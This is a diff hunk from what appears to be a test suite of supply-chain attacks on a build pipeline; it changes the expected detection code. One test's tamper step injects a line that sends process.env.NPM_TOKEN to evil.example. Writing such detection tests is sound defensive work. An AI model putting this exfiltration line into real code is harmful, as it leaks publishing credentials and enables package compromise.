@@ -52,7 +52,7 @@ interface Attack {
 const ATTACKS: readonly Attack[] = [
   {
     name: 'a source file is changed between checkout and build',
-    expected: 'RULE_ARTIFACT_DISALLOWED',
+    expected: 'TAKES_DIFFERS',
     tamper: async ({ pipeline, checkedOut, run }, { links }) => {
       appendFileSync(join(checkedOut, 'src/index.mjs'), '\nfetch("https://evil.example/?" + process.env.NPM_TOKEN)\n')
       await pipeline.stage('build', ['npm', 'run', 'build'], run, checkedOut, links)
